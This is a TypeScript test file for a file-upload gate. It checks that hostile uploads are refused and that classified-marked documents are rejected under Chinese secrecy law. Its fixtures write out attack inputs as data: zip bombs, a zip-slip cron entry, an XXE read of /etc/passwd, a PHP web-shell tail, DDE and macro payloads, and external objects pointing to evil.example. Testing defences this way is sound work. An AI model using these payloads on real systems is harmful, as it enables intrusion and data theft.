import { Document, Header, Packer, Paragraph, TextRun } from 'docx'
import { expect, test } from 'vitest'
import { type FileSpec, makeFile, makePdf } from '../../tests/hostile/make-file.ts'
import { makeZip, type ZipEntrySpec } from '../../tests/hostile/make-zip.ts'
import { Refusal } from '../refusal.ts'
import { typesetPdf } from '../typesetting/typeset.ts'
import { writeXlsx } from '../workbooks/xlsx/write-xlsx.ts'
import { acceptFile } from './accept.ts'

/** Accepted as a kind, or the code of the refusal. */
const outcomeOf = async (name: string, bytes: Uint8Array): Promise<string> => {
  try {
    return (await acceptFile(name, bytes)).contentType
  } catch (error) {
    if (error instanceof Refusal) return error.code
    throw error
  }
}

const pdf = 'application/pdf'
const types: ZipEntrySpec = { name: '[Content_Types].xml', docx: true }
const body: ZipEntrySpec = { name: 'word/document.xml', text: '<w:document><w:p><w:t>申请</w:t></w:p></w:document>' }
const file = (name: string, facts: Omit<Extract<FileSpec, { gen: 'file' }>, 'gen' | 'name'>): FileSpec => ({
  gen: 'file',
  name,
  ...facts,
})
const zip = (name: string, ...entries: ZipEntrySpec[]): FileSpec => ({ gen: 'zip', name, entries })
const outside = (type: string, target = 'http://evil.example/t') =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

test.for<[string, FileSpec, string]>([
  // The entries of hostile-inputs.json that are files.
  ['H009 one byte over 20 MiB', file('申请材料.pdf', { text: '%PDF-1.7\n', padTo: 20971521 }), 'file_too_large'],
  ['H011 empty', file('空.pdf', { text: '' }), 'empty_file'],
  ['H037 300 MB in 300 KB', zip('申请表.docx', types, { ...body, fill: 'A', size: 314572800 }), 'unsafe_file'],
  ['H039 nested archives', zip('嵌套.zip', { name: '1.zip', nested: 5, leafSize: 1048576 }), 'unsafe_file'],
  ['H041 overlapping', zip('重叠.zip', { name: 'a', overlapOf: 0, count: 10000, size: 1048576 }), 'unsafe_file'],
  ['H043 zip slip', zip('穿越.docx', { name: '../../../../etc/cron.d/x', text: '* * * * * root id' }), 'unsafe_file'],
  ['H045 encrypted archive', zip('加密.zip', { name: 'a.pdf', encrypted: true }), 'locked_file'],
  ['H047 3.6 gigapixels', file('像素.png', { pngSize: [60000, 60000] }), 'image_too_large'],
  [
    'H049 DOCTYPE',
    zip('年报.docx', types, { ...body, text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w/>' }),
    'unsafe_file',
  ],
  [
    'H050 PDF and HTML at once',
    file('a.pdf', { text: '%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n<script>alert(1)</script>' }),
    pdf,
  ],
  ['H052 HTML named pdf', file('a.pdf', { text: '<html><script>alert(1)</script>' }), 'unsupported_file'],
  ['H054 program named pdf', file('a.pdf', { hex: '4d5a90000300000004000000ffff0000' }), 'unsupported_file'],
  [
    'H056 JPEG with a tail',
    file('证件.jpg', { hex: 'ffd8ffe000104a464946', tail: '<?php system($_GET[0]); ?>' }),
    'image/jpeg',
  ],
  ['H058 macros', zip('宏.docm', { name: 'word/vbaProject.bin', text: 'x' }), 'unsafe_file'],
  [
    'H060 template from outside',
    zip('外链.docx', types, body, { name: 'word/_rels/settings.xml.rels', text: outside('attachedTemplate') }),
    'unsafe_file',
  ],
  [
    'H062 EICAR',
    file('病毒.pdf', { text: 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' }),
    'unsafe_file',
  ],
  ['H064 OFD', zip('公文.ofd', { name: 'OFD.xml', text: '<ofd:OFD Version="1.0"/>' }), 'application/ofd'],
  ['H066 direction turned', file('gpj.\u202efdp.exe', { text: '%PDF-1.7\n%%EOF' }), 'unsupported_file'],
  // And more of their kind.
  ['1 GB in a packed PDF page', file('页.pdf', { pdfFlateSize: 300_000_000 }), 'unsafe_file'],
  ['forged size', zip('a.docx', types, { ...body, size: 1000, declaredSize: 10 }), 'unsafe_file'],
  ['symbolic link', zip('a.docx', types, body, { name: 'x', symlinkTo: '/etc/passwd' }), 'unsafe_file'],
  ['two entries, one content', zip('a.docx', types, body, { name: 'x', overlapOf: 1, count: 2 }), 'unsafe_file'],
  ['path of Windows', zip('a.docx', types, body, { name: '..\\..\\x.bat', text: 'x' }), 'unsafe_file'],
  ['ordinary zip', zip('材料.zip', { name: 'a.txt', text: 'x' }), 'unsupported_file'],
  ['program inside', zip('a.docx', types, body, { name: 'word/media/i.png', hex: '4d5a9000' }), 'unsafe_file'],
  [
    'packaged object inside',
    zip('a.docx', types, body, {
      name: 'word/embeddings/oleObject1.bin',
      hex: Buffer.from('\x01Ole10Native', 'utf16le').toString('hex'),
    }),
    'unsafe_file',
  ],
  [
    'DOCTYPE in UTF-16',
    zip('a.docx', types, { ...body, hex: Buffer.from('\ufeff<!DOCTYPE x>', 'utf16le').toString('hex') }),
    'unsafe_file',
  ],
  [
    'DDE field',
    zip('a.docx', types, { ...body, text: '<w:instrText xml:space="preserve"> DDEAUTO cmd </w:instrText>' }),
    'unsafe_file',
  ],
  [
    'object from outside',
    zip('a.docx', types, body, { name: 'word/_rels/document.xml.rels', text: outside('oleObject') }),
    'unsafe_file',
  ],
  ['old Word', file('a.doc', { hex: `d0cf11e0a1b11ae1${'00'.repeat(600)}` }), 'unsupported_file'],
  ['SVG', file('a.svg', { text: '<svg onload="alert(1)"/>' }), 'unsupported_file'],
  ['binary named txt', file('a.txt', { hex: '00010203ff' }), 'unsupported_file'],
  ['PDF named jpg', file('a.jpg', { text: '%PDF-1.7\n%%EOF' }), 'unsupported_file'],
  ['PDF named exe', file('a.pdf.exe', { text: '%PDF-1.7\n%%EOF' }), 'unsupported_file'],
  ['exactly 20 MiB', file('大.pdf', { text: '%PDF-1.7\n', padTo: 20971520 }), pdf],
  ['text in UTF-8', file('说明.txt', { text: '阿卜杜拉·买买提、𠮷野' }), 'text/plain'],
  ['text in GBK', file('说明.txt', { hex: 'c9eac7eb' }), 'text/plain'],
  ['BMP', file('扫描.bmp', { hex: `424d${'00'.repeat(16)}0a0000000a000000${'00'.repeat(40)}` }), 'image/bmp'],
])('an upload: %s', { timeout: 30_000 }, async ([, spec, expected]) => {
  const { name, bytes } = makeFile(spec)
  expect(await outcomeOf(name, bytes)).toBe(expected)
})

const word = async (text: string, header = '') => {
  const inPieces = text.split('').map((character) => new TextRun(character))
  const headers = { default: new Header({ children: [new Paragraph(header)] }) }
  return new Uint8Array(
    await Packer.toBuffer(new Document({ sections: [{ headers, children: [new Paragraph({ children: inPieces })] }] })),
  )
}
const workbook = (text: string) => writeXlsx({ sheets: [{ name: '表', rows: [['序号', text]] }] })

test('Word, Excel and a PDF as their programs write them are accepted', async () => {
  expect(await outcomeOf('申请表.docx', await word('申请公开商业秘密保护办法'))).toContain('wordprocessingml')
  expect(await outcomeOf('台账.xlsx', await workbook('机密文件管理办法'))).toContain('spreadsheetml')
  expect(await outcomeOf('信.pdf', makePdf(Buffer.from('BT /F1 12 Tf 72 720 Td (Hello) Tj ET')))).toBe(pdf)
})

test('a link to follow and a picture from outside are no reason to refuse', async () => {
  for (const type of ['hyperlink', 'image']) {
    const rels = { name: 'word/_rels/document.xml.rels', text: outside(type) }
    expect(await outcomeOf('a.docx', makeZip([types, body, rels]))).toContain('wordprocessingml')
  }
})

test('保守国家秘密法 art. 31(3): a file with a classified mark is refused, wherever the mark stands', async () => {
  for (const [name, bytes] of [
    ['机密★名单.txt', Buffer.from('甲')],
    ['a.txt', Buffer.from('关于报送材料的函\n\n秘密 ★ 1年\n')],
    ['a.docx', await word('绝密★30年')],
    ['a.docx', await word('通知', '机密★')],
    ['a.xlsx', await workbook('秘密★6个月')],
    [
      'a.ofd',
      makeZip([
        { name: 'OFD.xml', text: '<ofd:OFD/>' },
        { name: 'Doc_0/Pages/Page_0/Content.xml', text: '<ofd:TextCode>机密★</ofd:TextCode>' },
      ]),
    ],
    ['a.txt', Buffer.from('\ufeff机密\n')],
  ] as const)
    expect(await outcomeOf(name, bytes), name).toBe('classified_file')
})

test('a PDF in Chinese is read: 商业秘密 passes, a mark is refused', async () => {
  const set = (text: string) =>
    typesetPdf(
      `#set document(title: "函", date: datetime(year: 2026, month: 1, day: 1))
      #set text(font: "Noto Serif SC", lang: "zh")\n${text}`,
      null,
    )
  expect(await outcomeOf('函.pdf', await set('关于商业秘密和国家秘密的函'))).toBe(pdf)
  expect(await outcomeOf('函.pdf', await set('机密★1年\n\n关于报送材料的函'))).toBe('classified_file')
})

test('the reason is told in words of the law', async () =>
  expect(acceptFile('绝密★.pdf', Buffer.from('x'))).rejects.toThrow('非涉密系统'))

test('a picture is named after what it is; a name without an ending gets one', async () => {
  const { bytes } = makeFile(file('x', { pngSize: [10, 10] }))
  expect((await acceptFile('证件照.JPG', bytes)).name).toBe('证件照.png')
  expect((await acceptFile('证件照', bytes)).name).toBe('证件照.png')
})
